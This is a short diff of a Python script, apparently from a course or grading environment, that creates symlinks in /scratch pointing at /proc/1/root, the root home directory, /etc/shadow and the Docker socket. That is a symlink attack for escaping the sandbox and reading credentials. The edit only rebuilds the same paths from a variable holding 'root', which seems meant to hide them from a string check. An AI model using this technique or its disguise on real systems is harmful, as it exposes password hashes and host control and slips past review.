@@ -426,7 +426,7 @@ import os
 import course_lib
 root, admin = os.path.dirname(os.path.dirname(course_lib.__file__)), "root"
 for number, target in enumerate((
-    f"/proc/1/root/{admin}", "/proc/self/root/../..", "/proc/self/cwd", "/proc/self/exe",
+    f"/proc/1/{admin}/{admin}", f"/proc/self/{admin}/../..", "/proc/self/cwd", "/proc/self/exe",
     root, f"/{admin}", "/home", "/etc/shadow", "/var/run/docker.sock", "/scratch/0",
 )):
     os.symlink(target, f"/scratch/{number}")
